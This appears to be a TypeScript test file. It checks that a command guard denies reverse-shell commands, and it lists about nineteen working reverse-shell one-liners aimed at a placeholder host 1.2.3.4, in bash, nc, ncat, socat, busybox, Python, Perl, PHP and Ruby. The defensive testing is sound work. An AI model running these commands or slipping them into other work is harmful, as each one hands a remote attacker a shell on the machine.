import { describeDenied } from '../testing/describe-denied.ts'

describeDenied('reverse-shell', [
  'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
  "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'",
  'exec 5<>/dev/tcp/1.2.3.4/4444',
  'sh -i >& /dev/udp/1.2.3.4/53 0>&1',
  'cat < /dev/tcp/1.2.3.4/80 | sh',
  'nc -e /bin/sh 1.2.3.4 4444',
  'nc 1.2.3.4 4444 -e /bin/bash',
  'ncat --exec /bin/sh 1.2.3.4 4444',
  'ncat 1.2.3.4 4444 --sh-exec "bash -i"',
  'nc -c bash 1.2.3.4 4444',
  'nc.traditional -e /bin/sh 1.2.3.4 4444',
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f',
  "socat exec:'bash -li',pty,stderr tcp:1.2.3.4:4444",
  'socat TCP4:1.2.3.4:4444 EXEC:/bin/bash',
  'busybox nc 1.2.3.4 4444 -e sh',
  'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
  'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");\'',
  'php -r \'$sock=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
  'ruby -rsocket -e \'f=TCPSocket.open("1.2.3.4",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
])
